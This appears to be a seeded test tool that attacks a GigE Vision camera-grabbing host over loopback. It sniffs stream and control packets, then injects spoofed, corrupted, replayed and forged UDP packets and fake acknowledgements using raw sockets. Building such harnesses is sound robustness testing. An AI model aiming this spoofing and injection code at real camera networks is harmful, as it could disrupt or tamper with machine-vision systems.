#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Sends what a stranger, or somebody at the cable, might send to a host that grabs from a camera over lo.

attacker.py CAMERA SECONDS SEED KIND
KIND is off-path (other addresses and ports), on-path (the camera's own: noise, and packets that are cut, doubled, or of
blocks long gone) or forged (of blocks to come, and refusals). What is forged bears no data that could pass for the
camera's: who knows all of a packet can replace an image, and no host can tell. Prints how much was sent.
"""

import random
import socket
import struct
import sys
import time
from collections import deque

GVCP = 3956
PACKETS_A_BURST, PAUSE = 20, 0.004


class Ear:
    """Learns ports and packets from what passes by."""

    def __init__(self, camera):
        self.camera = socket.inet_aton(camera)
        self.packets = deque(maxlen=256)
        self.stream = self.control = None  # host address, host port, camera's port
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
        self.socket.bind(("lo", 0x0800))
        self.socket.setblocking(False)

    def hear(self, most=400):
        for _ in range(most):
            try:
                packet = self.socket.recv(65536)
            except BlockingIOError:
                return
            if packet[9] != 17 or len(packet) < 36:
                continue
            source, host, content = packet[12:16], packet[16:20], packet[28:]
            camera_port, host_port = struct.unpack(">HH", packet[20:24])
            if source != self.camera or content == getattr(self, "own", None):
                continue
            if camera_port == GVCP:
                self.control = (host, host_port, camera_port)
            elif self.stream in (None, (host, host_port, camera_port)) and content[4] in (1, 2, 3):
                self.stream = (host, host_port, camera_port)
                self.packets.append(content)


class Attack:
    def __init__(self, camera, seed):
        self.rng = random.Random(seed)
        self.ear = Ear(camera)
        self.camera = socket.inet_aton(camera)
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.sent = 0

    def learn(self):
        last = time.monotonic() + 20
        while (not self.ear.stream or not self.ear.control or len(self.ear.packets) < 100) and time.monotonic() < last:
            self.ear.hear()
            time.sleep(0.001)
        if not self.ear.stream or not self.ear.control:
            raise SystemExit("attacker.py: no stream and no control was heard")

    def send(self, source, source_port, target, target_port, content):
        udp = struct.pack(">HHHH", source_port, target_port, 8 + len(content), 0) + content
        header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, source, target)
        try:
            self.raw.sendto(header + udp, (socket.inet_ntoa(target), 0))
            self.sent += 1
        except OSError:
            pass

    def to_stream(self, content):
        host, port, camera_port = self.ear.stream
        self.send(self.camera, camera_port, host, port, content)

    def to_control(self, content):
        host, port, _ = self.ear.control
        self.send(self.camera, GVCP, host, port, content)

    def any_packet(self):
        return self.rng.choice(self.ear.packets)

    def noise(self):
        return self.rng.randbytes(self.rng.randrange(200))

    def acknowledge(self):
        """Under ids that were not asked for: a guess that hits is as good as the camera's word."""
        content = self.rng.randbytes(self.rng.choice((0, 4, 8, 248, 540)))
        return struct.pack(">HHHH", self.rng.choice((0, 0x8001, 0x8006)), 0x0777, self.rng.randrange(600), 0) + content

    def with_block(self, packet, step):
        block = (struct.unpack(">H", packet[2:4])[0] + step) % 65535 or 1
        return packet[:2] + struct.pack(">H", block) + packet[4:8] + self.rng.randbytes(len(packet) - 8)

    def other_port(self, port):
        return next(other for other in iter(lambda: self.rng.randrange(1024, 65536), None) if other != port)

    def off_path(self):
        host, port, camera_port = self.ear.stream
        stranger = socket.inet_aton(f"127.0.1.{self.rng.randrange(1, 255)}")
        forged = self.with_block(self.any_packet(), self.rng.randrange(4))
        content = self.rng.choice((forged, self.noise()))
        self.send(stranger, camera_port, host, port, content)
        self.send(self.camera, self.other_port(camera_port), host, port, content)
        host, port, _ = self.ear.control
        readreg = struct.pack(">HHHH", 0, 0x0081, 4, self.rng.randrange(65536)) + bytes(4)
        self.send(stranger, GVCP, host, port, readreg)
        self.send(self.camera, self.other_port(GVCP), host, port, readreg)

    def on_path(self):
        packet = self.any_packet()
        self.to_stream(self.noise())
        self.to_stream(packet)
        self.to_stream(packet[:self.rng.randrange(len(packet))])
        self.to_stream(packet + self.rng.randbytes(self.rng.randrange(1, 500)))
        self.to_stream(self.with_block(packet, -self.rng.randrange(100, 2000)))
        self.to_control(self.noise())
        self.to_control(self.acknowledge())

    def forged(self):
        packet = self.any_packet()
        self.to_stream(self.with_block(packet, self.rng.randrange(300, 20000)))
        self.to_stream(struct.pack(">H", self.rng.choice((0x800C, 0x8011, 0x8012, 0x800D))) + packet[2:8])
        self.to_stream(packet[:4] + bytes([self.rng.randrange(256)]) + packet[5:8])

    def run(self, kind, seconds):
        self.learn()
        step = {"off-path": self.off_path, "on-path": self.on_path, "forged": self.forged}[kind]
        last = time.monotonic() + seconds
        while time.monotonic() < last:
            self.ear.hear()
            for _ in range(PACKETS_A_BURST):
                step()
            time.sleep(PAUSE)
        print(self.sent)


if __name__ == "__main__":
    attack = Attack(sys.argv[1], int(sys.argv[3]))
    attack.run(sys.argv[4], float(sys.argv[2]))
